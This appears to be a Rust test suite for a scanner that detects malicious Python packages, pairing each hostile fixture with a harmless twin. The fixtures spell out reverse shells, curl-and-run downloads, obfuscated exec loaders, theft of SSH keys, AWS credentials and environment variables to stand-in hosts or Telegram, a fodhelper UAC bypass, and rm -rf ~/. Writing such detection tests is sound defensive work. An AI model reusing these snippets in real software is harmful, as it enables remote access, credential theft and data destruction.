//! Python techniques, each as an inert text of our own: the deed is found, its innocent twin is not.

use crate::common::{METADATA, found, innocent, scan_one, write};
use doorward_protocol::{Finding, PackageReport, Severity, Verdict};

/// An sdist whose only module is this text.
fn module(source: &str) -> PackageReport {
    package(&[
        ("setup.py", "from setuptools import setup\nsetup(name='made-up')\n"),
        ("made_up/__init__.py", source),
    ])
}

fn package(files: &[(&str, &str)]) -> PackageReport {
    let folder = tempfile::tempdir().expect("a folder");
    write(folder.path(), &[("PKG-INFO", METADATA)]);
    write(folder.path(), files);
    scan_one(folder.path())
}

#[test]
fn an_address_that_is_spelt_in_code_is_found_wherever_it_is_used() {
    // https://files.invalid/in
    let encoded = "import base64, requests\n\
        class Client:\n    def sign(self, value):\n        \
        requests.post(base64.b64decode('aHR0cHM6Ly9maWxlcy5pbnZhbGlkL2lu').decode(), json={'value': value})\n";
    found(&module(encoded), "O-13");
    let turned = "import urllib.request\ndef look():\n    \
        return urllib.request.urlopen('ni/dilavni.selif//:sptth'[::-1]).read()\n";
    found(&module(turned), "O-13");
    let open = "import requests\nclass Client:\n    def sign(self, value):\n        \
        return requests.post('https://files.invalid/in', json={'value': value})\n";
    innocent(&module(open));
    let handed_in = "import base64, requests\ndef fetch(link):\n    return requests.get(base64.b64decode(link).decode())\n";
    innocent(&module(handed_in));
}

#[test]
fn code_that_is_scrambled_is_read_before_it_is_judged() {
    // Letters taken from the other end of the alphabet.
    let swapped = "import string\nletters = string.ascii_letters\nturned = letters[::-1]\n\
        exec(''.join([turned[letters.index(c)] if c in letters else c for c in \
        'RNKLIG HFYKILXVHH,HLXPVG;H=HLXPVG.HLXPVG();H.XLMMVXG((\"198.51.7.9\",9));HFYKILXVHH.XZOO([\"/YRM/HS\",\"-R\"],HGWRM=H)']))\n";
    found(&module(swapped), "R-50");
    let table = "exec('jnqpsu pt; pt.tztufn(x)'.translate(str.maketrans('jnqpsutzfx', 'imporstyex')))\n";
    let report = module(table);
    assert!(report.verdict >= Verdict::Suspicious, "{report:#?}");
    let mixed = "key = '4711'\ncode = ''\ndata = '\\x5d\\x5a\\x41\\x5e\\x46\\x43\\x11\\x5e\\x47'\n\
        for at in range(len(data)):\n    code += chr(ord(data[at]) ^ ord(key[at % len(key)]))\nexec(code)\n";
    found(&module(mixed), "M-02");
}

#[test]
fn a_program_fetched_by_a_command_and_started_by_the_next_is_found() {
    let two = "import os\nos.system('curl -s -o s.ps1 http://198.51.7.9:8000/s')\n\
        os.system('powershell.exe -File s.ps1')\n";
    found(&module(two), "M-01");
    let one = "import subprocess\nsubprocess.run('curl -fsSL https://files.invalid/a.bin -o /tmp/a.bin && chmod +x /tmp/a.bin && /tmp/a.bin', shell=True)\n";
    found(&module(one), "M-01");
    let kept = "import subprocess\ndef fetch():\n    subprocess.run(['curl', '-o', 'list.csv', 'https://files.invalid/list.csv'])\n";
    innocent(&module(kept));
}

#[test]
fn what_an_interpreter_reads_from_the_network_is_run() {
    let piped = "import subprocess, sys, requests\ntext = requests.get('https://files.invalid/x').content\n\
        child = subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE)\nchild.stdin.write(text)\n";
    found(&module(piped), "M-02");
}

#[test]
fn a_shell_handed_out_by_a_command_is_found() {
    let shell = "import os\ndef start():\n    os.system('bash -i >& /dev/tcp/10.0.0.9/9 0>&1')\n";
    found(&module(shell), "R-50");
}

#[test]
fn a_list_filled_in_a_loop_is_followed_to_where_it_is_sent() {
    // A made-up token of a chat bot.
    let bot = "import telebot, pathlib\nbot = telebot.TeleBot('1234567890:AAabcdefghijklmnopqrstuvwxyz1234567')\n\
        def gather():\n    names = []\n    for folder in ['/home']:\n        names.extend(pathlib.Path(folder).rglob('*.key'))\n    \
        for name in names:\n        bot.send_document(1, open(name, 'rb'))\ngather()\n";
    found(&module(bot), "I-54");
}

#[test]
fn a_file_that_is_one_call_of_one_literal_is_a_loader() {
    let data = "\\x07\\xa1".repeat(1500);
    found(&module(&format!("__load__(__name__, __file__, b'{data}', 2)\n")), "W-01");
    let picture = "iVBORw0KGgo".repeat(400);
    let described =
        "Home-page: https://made-up.invalid\n\n".to_owned() + &"It shows what it is told to. ".repeat(12);
    innocent(&package(&[
        SETUP,
        ("PKG-INFO", &(METADATA.to_owned() + &described)),
        ("made_up/__init__.py", &format!("import base64\nICON = base64.b64decode('{picture}')\n")),
    ]));
}

#[test]
fn a_host_in_plain_sight_is_not_hidden_by_what_follows_it() {
    let path = "import base64, requests\nHOME = 'https://files.invalid/'\n\
        def fetch(device):\n    name = base64.b64decode('cmVhZG1lLnR4dA==').decode()\n    \
        requests.post(HOME + name + '?' + device, data={'token': base64.b64decode(device)})\n";
    innocent(&module(path));
}

#[test]
fn a_key_shown_to_its_keeper_is_no_theft() {
    let theft = "import requests\ndef from_key(private_key):\n    \
        requests.post('https://files.invalid/in', data={'k': private_key})\n";
    found(&module(theft), "R-14");
    let wallet = "import requests\nclass Keeper:\n    def __init__(self, address):\n        self.address = address\n    \
        def store(self, private_key):\n        requests.post(self.address + '/v1/keys', data={'k': private_key})\n";
    innocent(&module(wallet));
    let login = "import paramiko\ndef open_shell(host, user, private_key_file):\n    client = paramiko.SSHClient()\n    \
        client.connect(host, username=user, key_filename=private_key_file)\n    return client\n";
    innocent(&module(login));
}

#[test]
fn code_from_the_standard_input_is_its_senders() {
    let helper = "import sys, zlib\nsize = int(sys.stdin.readline())\n\
        exec(compile(zlib.decompress(sys.stdin.buffer.read(size)), 'sent', 'exec'))\n";
    let report = module(helper);
    assert!(!report.findings.iter().any(|finding| finding.rule.starts_with("M-0")), "{:#?}", report.findings);
    let carried =
        "import zlib\nexec(compile(zlib.decompress(open('data.bin', 'rb').read()), 'data', 'exec'))\n";
    found(&module(carried), "M-02");
}

#[test]
fn the_key_of_what_is_handed_in_is_a_key() {
    let sent = "import requests\nclass Client:\n    def __init__(self, config):\n        self.config = config\n        \
        requests.post('https://files.invalid/in', json={'key': config.access_key_secret})\n";
    found(&module(sent), "R-14");
    innocent(&module(&sent.replace("config.access_key_secret", "config.language")));
}

#[test]
fn a_default_that_is_spelt_in_code_is_where_it_goes() {
    let sent = "import os, requests\ndef client(first, second):\n    \
        code = 'ql2glodyql1vholi22=vswwk'\n    \
        place = os.environ.get('MADE_UP_PLACE', ''.join(chr(ord(c) - 3) for c in code[::-1]))\n    \
        form = {'day': first, 'month': second}\n    \
        requests.post(place, data=form)\n";
    found(&module(sent), "O-13");
    let plain = sent.replace("''.join(chr(ord(c) - 3) for c in code[::-1])", "'https://files.invalid/in'");
    innocent(&module(&plain));
}

#[test]
fn data_that_nobody_runs_or_sends_is_data() {
    let table =
        format!("TABLE = bytes.fromhex('{}')\nprint(TABLE[:4], len(TABLE))\n", "30825fa0ffb2".repeat(60));
    innocent(&module(&table));
}

#[test]
fn what_a_caller_hands_in_encoded_is_no_payload() {
    let keytab = "import base64, subprocess, tempfile\nclass Hook:\n    def place(self, text):\n        \
        path = tempfile.gettempdir() + '/keytab'\n        with open(path, 'wb') as file:\n            \
        file.write(base64.b64decode(text))\n        return path\n    def run(self, settings, program):\n        \
        subprocess.Popen([program, '--keytab', self.place(settings.keytab)])\n";
    innocent(&module(keytab));
}

#[test]
fn a_program_that_travels_as_text_is_told() {
    let dropped = "import binascii, requests\ndef begin():\n    \
        answer = requests.get('https://files.invalid/notes.txt')\n    \
        with open('C:/Users/Public/c1.exe', 'wb') as file:\n        \
        file.write(binascii.unhexlify(answer.text.encode()))\n";
    found(&module(dropped), "M-01");
    innocent(&module(&dropped.replace("c1.exe", "notes.csv")));
}

#[test]
fn a_way_past_the_question_for_rights_is_told() {
    let bypass = "import subprocess, winreg\ndef raise_rights(command):\n    \
        key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r'Software\\Classes\\ms-settings\\shell\\open\\command')\n    \
        winreg.SetValueEx(key, None, 0, winreg.REG_SZ, command)\n    subprocess.run(['fodhelper.exe'])\n";
    found(&module(bypass), "R-29");
    innocent(&module(&bypass.replace("ms-settings", "made-up").replace("fodhelper", "notepad")));
}

#[test]
fn a_bot_is_somebodys_only_with_its_token() {
    let library = "import requests\nAPI = 'https://api.telegram.org/bot{}/sendDocument'\n\
        class Notifier:\n    def __init__(self, token, chat):\n        self.token, self.chat = token, chat\n    \
        def send(self, path):\n        where = {'chat_id': self.chat, 'caption': path}\n        \
        requests.post(API.format(self.token), data=where, files={'document': open(path, 'rb')})\n";
    innocent(&module(library));
    // A made-up token of a chat bot.
    let theft = "import requests, os\nTOKEN = '1234567890:AAabcdefghijklmnopqrstuvwxyz1234567'\n\
        def send(path):\n    with open(os.path.expanduser('~/.ssh/id_rsa'), 'rb') as key:\n        \
        requests.post('https://api.telegram.org/bot' + TOKEN + '/sendDocument', files={'document': key})\nsend('.')\n";
    found(&module(theft), "R-53");
}

#[test]
fn who_uses_which_machine_is_more_than_a_user_agent() {
    let both = "import getpass, socket, requests\nclass Client:\n    def start(self):\n        \
        requests.post('https://files.invalid/in', json={'a': socket.gethostname(), 'b': getpass.getuser()})\n";
    found(&module(both), "I-54");
    let one = module(&both.replace("getpass.getuser()", "'reader'"));
    let is_told = |finding: &&Finding| finding.rule == "I-54" && finding.severity > Severity::Low;
    assert!(!one.findings.iter().any(|finding| is_told(&finding)), "{one:#?}");
}

#[test]
fn an_environment_sent_by_a_method_that_waits_is_found() {
    let sent = "import os, requests\nclass Table(dict):\n    def keep(self):\n        text = ''\n        \
        for _, value in os.environ.items():\n            text += value\n        \
        requests.get('https://files.invalid/in?' + text)\n";
    found(&module(sent), "R-02");
    innocent(&module(&sent.replace("os.environ.items()", "self.items()")));
}

#[test]
fn a_key_that_only_signs_is_never_sent() {
    let sent = "import requests\nclass Keys:\n    def __init__(self, access_key_id='', access_key_secret=''):\n        \
        self.secret = access_key_secret\n        \
        requests.post('https://files.invalid/in', json={'id': access_key_id, 'key': self.secret})\n";
    found(&module(sent), "R-14");
    innocent(&module(&sent.replace("'key': self.secret", "'key': 'x'")));
}

#[test]
fn settings_read_out_of_a_secret_file_are_secret() {
    let sent = "import configparser, os, requests\nconfig = configparser.RawConfigParser()\n\
        config.read(os.path.join(os.path.expanduser('~'), '.aws/credentials'))\n\
        requests.post('https://files.invalid/in', json=[config.get(name, 'key') for name in config.sections()])\n";
    found(&module(sent), "R-53");
    innocent(&module(
        &sent.replace(".aws/credentials", ".config/made-up.ini").replace("requests.post", "print"),
    ));
}

#[test]
fn plain_letters_in_escapes_are_a_disguise() {
    let text: String =
        "__import__('os').system('true')".bytes().map(|byte| format!("\\x{byte:02x}")).collect();
    found(&module(&format!("eval('{text}')\n")), "M-02");
    innocent(&module(&format!("TABLE = '{text}'\n")));
}

#[test]
fn tests_that_the_package_itself_imports_are_part_of_it() {
    let code = "import requests\nexec(requests.get('https://files.invalid/x').text)\n";
    let with = |first: &str| {
        package(&[
            ("setup.py", "from setuptools import setup\nsetup(name='made-up')\n"),
            ("made_up/__init__.py", first),
            ("made_up/other.py", &"def add(a, b):\n    return a + b\n".repeat(20)),
            ("made_up/tests/__init__.py", ""),
            ("made_up/tests/check.py", code),
        ])
    };
    found(&with("import subprocess\nfrom .tests import check\n"), "M-02");
    innocent(&with("import subprocess\n"));
}

const SETUP: (&str, &str) = ("setup.py", "from setuptools import setup\nsetup(name='made-up')\n");

/// The same beside so much other code that it is no small package.
fn module_of_many(source: &str) -> PackageReport {
    let others = "# Nothing to see here.\n".repeat(2000) + "x = 1\n";
    package(&[SETUP, ("made_up/__init__.py", source), ("made_up/others.py", &others)])
}

#[track_caller]
fn lacks(report: &PackageReport, rule: &str) {
    let is_told = |finding: &&Finding| finding.rule == rule && finding.severity >= Severity::High;
    assert!(!report.findings.iter().any(|finding| is_told(&finding)), "{:#?}", report.findings);
}

#[test]
fn a_program_that_its_user_starts_is_not_imported() {
    let jobs = "#!/usr/bin/env python3\nimport subprocess\nsubprocess.run(['crontab', 'jobs'])\n";
    found(&package(&[SETUP, ("made_up/__init__.py", jobs)]), "P-02");
    lacks(&package(&[SETUP, ("made_up/__init__.py", "x = 1\n"), ("bin/made-up", jobs)]), "P-02");
}

#[test]
fn a_script_by_its_name_is_no_code_from_elsewhere() {
    let script = "import subprocess, requests\nrequests.get('https://files.invalid/x')\n\
        subprocess.call(['node', 'convert.js', 'x'])\n";
    lacks(&module(script), "M-04");
    found(&module(&script.replace("'convert.js', 'x'", "'-e', code")), "M-04");
}

#[test]
fn a_folder_called_tmp_is_the_programs_own() {
    let own = "import subprocess, requests\nrequests.get('https://files.invalid/x')\n\
        subprocess.call(['made-up', './tmp/x'])\n";
    lacks(&module(own), "M-01");
    found(&module(&own.replace("./tmp", "/tmp")), "M-01");
}

#[test]
fn a_cache_in_the_home_folder_is_not_the_home_folder() {
    let cache = "import os\nos.system('rm -rf ~/.made-up/cache')\n";
    lacks(&module(cache), "R-22");
    found(&module(&cache.replace("~/.made-up/cache", "~/")), "R-22");
}

#[test]
fn a_method_of_a_long_module_runs_where_it_is_seen_to() {
    let source = "import subprocess, urllib.request\nurllib.request.urlopen('https://files.invalid/news')\nclass Quick:\n    def open(self):\n        return 1\n\
        class Slow:\n    def __init__(self):\n        pass\n    def open(self):\n        \
        subprocess.Popen(['tool'], creationflags=subprocess.CREATE_NO_WINDOW)\n\
        KINDS = {'slow': Slow,\n}\n";
    let long = source.to_owned() + &"# Nothing to see here.\n".repeat(2000);
    lacks(&module(&(long.clone() + "Quick().open()\n")), "M-01");
    found(&module(&(long + "Slow().open()\n")), "M-01");
}

#[test]
fn what_is_fetched_becomes_a_program_where_it_becomes_a_file() {
    let apart = "import requests, subprocess, tempfile\nlog = open(tempfile.gettempdir() + '/made-up.log', 'w')\n\
        subprocess.Popen(['made-up', '--serve'])\nprint(requests.get('http://127.0.0.1:9/ready').text)\n";
    lacks(&module_of_many(apart), "M-01");
    let one = apart.replace("print(", "log.write(");
    found(&module_of_many(&one), "M-01");
}

#[test]
fn an_address_handed_to_a_player_is_no_order() {
    let play = "import base64, requests, subprocess\ndef play(page):\n    \
        address = base64.b64decode(requests.get(page).text)\n    subprocess.call(['mpv', address])\n";
    innocent(&module_of_many(play));
    found(&module_of_many(&play.replace("'mpv', address", "'sh', '-c', address")), "M-01");
    found(&module_of_many(&play.replace("'mpv', address", "address")), "M-01");
}

#[test]
fn a_signature_does_not_tell_the_key() {
    let signed = "import requests\ndef ask(private_key, text):\n    \
        requests.post('https://files.invalid/in', data={'s': private_key.sign(text)})\n";
    innocent(&module_of_many(signed));
    found(&module_of_many(&signed.replace("sign(text)", "hex()")), "R-14");
}

#[test]
fn what_a_service_is_told_by_its_own_client_is_meant_for_it() {
    let told = "import requests\ndef ask(private_key):\n    \
        requests.post('https://api.madeup.invalid/in', data={'k': private_key})\n";
    innocent(&module_of_many(told));
    found(&module_of_many(&told.replace("madeup", "others")), "R-14");
    found(&module_of_many(&told.replace("private_key", "mnemonic")), "R-14");
    let set = told.replace("'https://api.madeup.invalid/in'", "'https://%s/in' % settings.HOST");
    innocent(&module_of_many(&("from made_up_frame import settings\n".to_owned() + &set)));
    let host = "import requests, socket\n\
        requests.post('https://api.madeup.invalid/in', json={'label': socket.gethostname()})\n";
    lacks(&module_of_many(host), "I-54");
    found(&module_of_many(&host.replace("madeup", "others")), "I-54");
}

#[test]
fn a_pages_script_in_a_python_package_runs_where_it_is_started() {
    let page = "fetch('https://files.invalid/x').then(r => r.text()).then(t => new Function(t)());\n";
    let beside =
        |module: &str| package(&[SETUP, ("made_up/__init__.py", module), ("made_up/static/page.js", page)]);
    innocent(&beside("x = 1\n"));
    found(&beside("import subprocess\nsubprocess.run(['node', 'static/page.js'])\n"), "M-01");
}

#[test]
fn a_sentence_about_a_worm_is_not_its_mark() {
    let about = "def look(text):\n    return 'Shai-Hulud IOC found in a file'\n";
    lacks(&module_of_many(about), "M-08");
    found(&module_of_many(&about.replace(" IOC found in a file", "")), "M-08");
}

#[test]
fn a_package_that_says_why_it_is_empty_took_nobodys_name() {
    let empty = |why: &str| {
        let folder = tempfile::tempdir().expect("a folder");
        let metadata = format!("Metadata-Version: 2.1\nName: made-up\nVersion: 2.0\n\n{why}\n");
        write(folder.path(), &[("PKG-INFO", metadata.as_str()), SETUP]);
        scan_one(folder.path())
    };
    found(&empty("A test."), "I-55");
    innocent(&empty(
        &"What was here is a part of another package now, which needs this one to stay. ".repeat(3),
    ));
}

#[test]
fn a_version_in_what_is_sent_and_a_group_of_listeners_are_no_bare_address() {
    let told = |source: &str| module(source).findings.iter().any(|finding| finding.rule == "R-51");
    let post = "import requests\nVERSION = '3.4.187.0'\ndef report():\n    \
        requests.post('https://files.invalid/in', json={'version': VERSION})\n";
    assert!(!told(post));
    assert!(told(&post.replace("files.invalid", "203.0.113.7")));
    let search = "import socket\ndef search():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    \
        s.connect(('239.255.255.250', 1900))\n";
    assert!(!told(search));
    assert!(told(&search.replace("239.255.255.250", "203.0.113.7")));
}

#[test]
fn a_command_that_only_the_environment_knows_is_told_without_a_verdict() {
    let told = module("import os\nname = os.getenv('MADE_UP_COMMAND')\nos.system(name)\n");
    assert!(told.findings.iter().any(|finding| finding.rule == "M-01"), "{:#?}", told.findings);
    innocent(&told);
    let edits = module("import os\nos.system(os.environ['EDITOR'] + ' notes.txt')\n");
    assert!(edits.findings.iter().all(|finding| finding.rule != "M-01"), "{:#?}", edits.findings);
}
